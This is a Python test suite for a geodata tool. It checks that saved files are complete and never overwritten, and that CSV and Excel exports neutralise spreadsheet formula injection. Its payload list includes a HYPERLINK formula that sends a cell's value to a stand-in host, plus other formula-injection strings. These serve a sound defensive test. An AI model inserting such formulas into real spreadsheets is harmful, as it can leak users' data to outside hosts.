"""Every file the product writes: complete or not there at all, never overwritten by a second save
in the same second, and never a live spreadsheet formula in a CSV or Excel cell."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from geodata.files import WriteError
from geodata.safe_export import FORMULA_STARTS, to_csv_bytes, to_excel_bytes
from layers.cli import main as verbonden
from layers.initiatives import inventory_template, inventory_to_csv
from layers.uploads import save_upload, saved_files

NOW = datetime(2025, 3, 14, 9, 26, 53)
TABLE = pd.DataFrame({"level": ["gemeente"], "code": ["11002"], "naam": ["Antwerpen"], "x": [1.5]})
PAYLOADS = {
    "naam": '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "organisator": "@SUM(1+1)",
    "beschrijving": "+1+1",
    "locatie": "-1+1",
    "regio": "-2+3",
    "impact": "=1+1",
}
# Tab and carriage return starts are written directly (in a file they would read as separators).
CONTROL_PAYLOADS = {"regio": "\t=1+1", "impact": "\r=2+2"}


def _payload_inventory(path: Path) -> Path:
    rows = inventory_template()
    rows = pd.concat([rows, rows.assign(id="tweede")], ignore_index=True)
    for column, payload in PAYLOADS.items():
        rows[column] = payload
    path.write_text(rows.to_csv(index=False), encoding="utf-8")  # a user's file: live cells
    return path


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def _live_cells(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    dialect = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=dialect) for cell in row]


def _xlsx_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def test_sixteen_saves_of_one_name_in_one_second_give_sixteen_files(tmp_path):
    paths = [
        save_upload(tmp_path, kind="indicator", filename="cijfers.csv", now=NOW, table=TABLE)
        for _ in range(16)
    ]
    assert len(set(paths)) == 16
    assert len(saved_files(tmp_path, kind="indicator")) == 16
    assert all(p.name.startswith("20250314-092653-indicator-cijfers") for p in paths)
    assert all(p.read_bytes() == to_csv_bytes(TABLE) for p in paths)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_a_save_on_a_full_disk_leaves_nothing_and_says_what_to_free(full_dir):
    before = sorted(full_dir.iterdir())
    big = pd.DataFrame({"level": "gemeente", "code": ["11002"] * 5000, "naam": "x" * 40, "v": 1.0})
    with pytest.raises(WriteError, match="schijf is vol"):
        save_upload(full_dir, kind="indicator", filename="groot.csv", now=NOW, table=big)
    assert sorted(full_dir.iterdir()) == before
    assert saved_files(full_dir, kind="indicator") == []


def test_a_save_in_a_read_only_folder_names_the_folder(read_only_dir):
    with pytest.raises(WriteError, match="alleen-lezen") as caught:
        save_upload(read_only_dir / "eigen-data", kind="indicator", filename="a.csv", now=NOW,
                    table=TABLE)  # fmt: skip
    assert str(read_only_dir) in str(caught.value)


def _cli_outputs(folder: Path, upload: Path, settings) -> dict[str, list[str]]:
    home = str(settings.home)
    return {
        "check": ["check", str(upload), "--output", str(folder / "rijen.csv"),
                  "--store", str(settings.store_path)],
        "map": ["map", str(upload), "--out", str(folder / "kaart.html"), "--home", home],
        "export indicators": ["export", "indicators", "--level", "gemeente", "--home", home,
                              "--output", str(folder / "gemeenten.csv")],
        "export initiatives": ["export", "initiatives", "--format", "geojson", "--home", home,
                               "--output", str(folder / "initiatieven.geojson")],
    }  # fmt: skip


@pytest.mark.parametrize("where", ["full_dir", "read_only_dir"])
def test_cli_outputs_that_cannot_be_written_leave_nothing(where, request, settings, tmp_path,
                                                          capsys):  # fmt: skip
    folder: Path = request.getfixturevalue(where)
    before = sorted(folder.iterdir())
    upload = tmp_path / "cijfers.csv"
    upload.write_text("code,waarde\n11002,5\n44021,7\n", encoding="utf-8")
    expected = "schijf is vol" if where == "full_dir" else "alleen-lezen"
    for name, argv in _cli_outputs(folder, upload, settings).items():
        status = verbonden(argv)
        out, err = capsys.readouterr()
        assert status != 0, name
        assert "Traceback" not in out + err, name
        if name != "map":  # map refuses an unwritable folder before it starts
            assert expected in err, (name, err)
        assert sorted(folder.iterdir()) == before, name


def test_no_output_path_writes_a_live_formula(settings, tmp_path, capsys):
    inventory_file = _payload_inventory(tmp_path / "overzicht.csv")
    table_file = tmp_path / "cijfers.csv"
    table_file.write_text('code,naam,"=SUM(1,2)"\n11002,"@x",5\n', encoding="utf-8")
    home, store = str(settings.home), str(settings.store_path)
    written = {
        "check --kind initiatieven": tmp_path / "geldig.csv",
        "check": tmp_path / "rijen.csv",
        "export initiatives": tmp_path / "initiatieven.csv",
        "export initiatives excel-nl": tmp_path / "initiatieven-nl.csv",
    }
    runs = {
        "check --kind initiatieven": ["check", str(inventory_file), "--kind", "initiatieven",
                                      "--store", store],
        "check": ["check", str(table_file), "--store", store],
        "export initiatives": ["export", "initiatives", "--home", home,
                               "--inventory", str(inventory_file)],
        "export initiatives excel-nl": ["export", "initiatives", "--home", home, "--excel-nl",
                                        "--inventory", str(inventory_file)],
    }  # fmt: skip
    for name, argv in runs.items():
        assert verbonden([*argv, "--output", str(written[name])]) == 0, capsys.readouterr()
    capsys.readouterr()
    from layers.initiatives import read_inventory

    typed, _ = read_inventory(inventory_file, filename="overzicht.csv")
    saved = save_upload(tmp_path / "eigen-data", kind="initiatieven", filename="o.csv", now=NOW,
                        inventory=typed)  # fmt: skip
    outputs = {name: _csv_cells(path.read_bytes()) for name, path in written.items()}
    outputs["opslaan (overzicht)"] = _csv_cells(saved.read_bytes())
    controls = typed.assign(**CONTROL_PAYLOADS)
    outputs["inventory_to_csv"] = _csv_cells(inventory_to_csv(controls))
    outputs["excel"] = _xlsx_cells(to_excel_bytes(controls))
    for name, cells in outputs.items():
        assert cells, name
        assert _live_cells(cells) == [], name
    # the payloads arrived (neutralised), they were not dropped
    assert any(c.startswith("'=HYPERLINK") for c in outputs["opslaan (overzicht)"])
    assert any(c.startswith("'=HYPERLINK") for c in outputs["export initiatives"])
